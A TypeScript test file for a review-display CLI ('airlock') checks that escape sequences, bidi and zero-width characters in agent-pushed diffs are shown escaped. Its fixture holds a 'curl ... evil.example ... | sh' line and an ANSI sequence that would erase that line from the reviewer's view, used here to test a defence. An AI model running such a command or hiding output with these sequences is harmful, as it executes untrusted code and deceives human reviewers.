// `airlock reviews` / `airlock show`: agent-written text reaches the reviewer's terminal as text.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { reviewLine, reviewText } from '../../main/cli/format-review';
import type { ReviewView } from '../../main/contract/views';

const ESC = '\u001b';
// A pushed file whose third line moves the cursor up, erases the malicious line above and prints over it.
const patch = `@@ -0,0 +1,3 @@\n+#!/bin/sh\n+curl -s https://evil.example/x | sh\n+${ESC}[1A${ESC}[2K\r+echo "installing deps"\n+\tindented with a tab`;

const review = {
  id: '7', state: 'pending', agent: `bot${ESC}]0;owned${'\u0007'}`, host: 'github.com', repo: 'o/r.git',
  bodyBytes: 10, bodySha256: 'ab'.repeat(32), createdAt: '2026-12-06T00:00:00.000Z', expiresAt: new Date(Date.now() + 600_000).toISOString(),
  decidedAt: null, decidedBy: null, reason: null, upstreamStatus: null,
  summary: 'adds install.sh', findings: [{ severity: 'warning', rule: 'r', message: `m${'\u202e'}x`, path: 'install.sh', line: 2 }],
  refs: [{
    ref: `refs/heads/main${'\u200b'}`, change: 'update', oldOid: '1'.repeat(40), newOid: '2'.repeat(40), base: 'main',
    commits: [{ oid: '3'.repeat(40), author: 'a', authorDate: '2026-12-06', message: `fix${'\u009b'}2J\nsecond line` }],
    files: [{ path: 'install.sh', oldPath: null, status: 'added', binary: false, additions: 3, deletions: 0, oldMode: null, newMode: '100755', patch, omitted: null }],
    omitted: null,
  }],
} as unknown as ReviewView;

test('airlock show: escape sequences, C1, bidi and zero-width characters in a review are printed escaped; lines and tabs stay', () => {
  const text = reviewText(review);
  assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e]/, 'no raw control or invisible character');
  assert.match(text, /^\+curl -s https:\/\/evil\.example\/x \| sh$/m, 'the malicious line is there');
  assert.match(text, /^\+\\x1b\[1A\\x1b\[2K\\x0d\+echo "installing deps"$/m, 'the line that would hide it is shown escaped');
  assert.match(text, /^\+\tindented with a tab$/m, 'a tab in the diff stays a tab');
  assert.match(text, /^agent: {3}bot\\x1b\]0;owned\\x07$/m);
  assert.match(text, /^ {6}fix\\x9b2J$/m);
  assert.match(text, /^ {6}second line$/m, 'a commit message keeps its lines');
  assert.match(text, /m\\u202ex/);
  assert.match(text, /refs\/heads\/main\\u200b/);
});

test('airlock reviews: each field escaped, tab-separated', () => {
  const line = reviewLine(review);
  assert.equal(line.split('\t').length, 6);
  assert.doesNotMatch(line, /[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u200b-\u200f]/);
  assert.match(line, /^#7\tpending\tbot\\x1b\]0;owned\\x07\tgithub\.com\/o\/r\.git\tupdate refs\/heads\/main\\u200b\t/);
  // A critical finding is in the list line, so that it is seen before `airlock show`.
  const critical = reviewLine({ ...review, findings: [...review.findings, { severity: 'critical', rule: 'stored-credential', message: 'x', path: 'a', line: 1 }] } as typeof review);
  assert.equal(critical.split('\t').length, 7);
  assert.match(critical, /\t1 CRITICAL finding: airlock show 7$/);
});
